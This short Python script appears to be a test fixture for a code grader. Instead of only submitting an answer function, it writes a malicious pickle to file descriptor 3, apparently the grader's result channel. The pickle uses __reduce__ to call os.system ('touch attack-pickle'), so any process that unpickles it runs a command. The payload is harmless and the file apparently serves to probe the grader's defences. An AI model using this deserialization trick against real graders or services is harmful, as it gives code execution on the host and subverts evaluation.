# output: an answer that runs a command when it is unpickled
import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch attack-pickle",)


body = pickle.dumps(Bomb())
os.write(3, struct.pack("<Q", len(body)) + body)


def select_next_node(c, d, u, m):
    return u[0]
